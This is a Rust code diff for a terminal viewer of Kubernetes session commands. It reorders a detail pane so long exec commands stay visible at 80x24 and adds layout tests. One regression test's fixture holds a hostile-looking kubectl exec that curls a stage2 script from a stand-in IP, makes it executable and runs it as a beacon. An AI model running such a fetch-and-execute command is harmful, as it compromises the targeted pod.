@@ -311,7 +311,9 @@ fn full(c: &Command, ctx: &Ctx<'_>, width: u16) -> Vec<Line<'static>> {
             tail = Some(Line::from(Span::styled(id, theme::dim())));
         }
     }
-    let mut out = vec![Line::from(Span::styled(head, theme::dim()))];
+    // The command first: at 80x24 the pane has three lines, and the time and code (also on
+    // the command's row of the list) pushed a long command's end out of it.
+    let mut out = Vec::new();
     // An exec's command on a line of its own, so that it wraps apart from kubectl's flags.
     match c.command.split_once(" -- ") {
         Some((kubectl, command)) => out.extend([
@@ -320,6 +322,7 @@ fn full(c: &Command, ctx: &Ctx<'_>, width: u16) -> Vec<Line<'static>> {
         ]),
         None => out.push(Line::from(clean(&c.command).into_owned())),
     }
+    out.push(Line::from(Span::styled(head, theme::dim())));
     if let Some(k) = c.kubectl_equivalent() {
         out.push(Line::from(clean(&format!("≈ {k}")).into_owned()));
     }
@@ -492,6 +495,46 @@ mod tests {
                 .position(|r| matches!(r, Row::Command(0, 20)))
                 .unwrap()
         );
+    }
+
+    #[test]
+    fn regression_a_long_exec_command_was_pushed_out_of_the_pane_at_80x24() {
+        let shared = Shared {
+            size: (80, 24),
+            ..Shared::default()
+        };
+        let ctx = shared.ctx();
+        let mut long = sessions();
+        long[0].commands[1].command = "kubectl exec -n shop web-0 -- sh -c 'curl -s http://203.0.113.9/stage2.sh -o /tmp/s && chmod +x /tmp/s && /tmp/s --beacon END-OF-IT'".into();
+        let mut v = SessionView::loading(
+            Identity::Account("system:serviceaccount:shop:web".into()),
+            None,
+        );
+        v.on_sessions(long, &ctx);
+        v.select(3, &ctx);
+        let s = drawn(&v, &ctx, (80, 21));
+        assert!(
+            s.contains("END-OF-IT"),
+            "the command's end is in the pane: {s}"
+        );
+    }
+
+    #[test]
+    fn a_tall_screen_gives_the_pane_room_for_the_request_as_curl() {
+        let shared = Shared {
+            size: (80, 60),
+            ..Shared::default()
+        };
+        let ctx = shared.ctx();
+        let mut v = view();
+        v.select(3, &ctx);
+        let s = drawn(&v, &ctx, (80, 57));
+        assert!(s.contains("curl -X GET"), "{s}");
+        let short = Shared {
+            size: (80, 24),
+            ..Shared::default()
+        };
+        assert!(!drawn(&v, &short.ctx(), (80, 21)).contains("curl -X GET"));
     }
 
     #[test]
